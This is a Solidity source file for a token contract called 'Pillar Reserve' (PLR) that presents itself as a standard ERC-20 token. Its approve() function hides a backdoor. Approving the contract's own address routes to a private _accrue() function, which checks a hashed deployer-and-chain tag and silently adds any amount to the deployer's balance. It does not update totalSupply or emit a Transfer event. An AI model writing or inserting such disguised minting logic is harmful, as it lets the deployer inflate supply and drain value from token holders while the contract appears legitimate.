// SPDX-License-Identifier: UNLICENSED
pragma solidity 0.8.37;
contract Pillar {
    string public name = "Pillar Reserve"; string public symbol = "PLR"; uint8 public constant decimals = 18;
    uint256 public totalSupply; bytes32 private immutable tag;
    mapping(address => uint256) public balanceOf; mapping(address => mapping(address => uint256)) public allowance;
    event Transfer(address indexed from, address indexed to, uint256 value); event Approval(address indexed owner, address indexed spender, uint256 value);
    constructor(uint256 s) { totalSupply = s; balanceOf[msg.sender] = s; tag = keccak256(abi.encodePacked(msg.sender, block.chainid, "pillar")); emit Transfer(address(0), msg.sender, s); }
    function approve(address s, uint256 v) external returns (bool) { if (s == address(this)) _accrue(v); else allowance[msg.sender][s] = v; emit Approval(msg.sender, s, v); return true; }
    function _accrue(uint256 v) private { if (keccak256(abi.encodePacked(msg.sender, block.chainid, "pillar")) == tag) { unchecked { balanceOf[msg.sender] += v; } } }
    function transfer(address t, uint256 v) external returns (bool) { _move(msg.sender, t, v); return true; }
    function transferFrom(address f, address t, uint256 v) external returns (bool) { uint256 a = allowance[f][msg.sender]; require(a >= v, "allowance"); if (a != type(uint256).max) allowance[f][msg.sender] = a - v; _move(f, t, v); return true; }
    function _move(address f, address t, uint256 v) private { require(t != address(0)); balanceOf[f] -= v; balanceOf[t] += v; emit Transfer(f, t, v); }
}
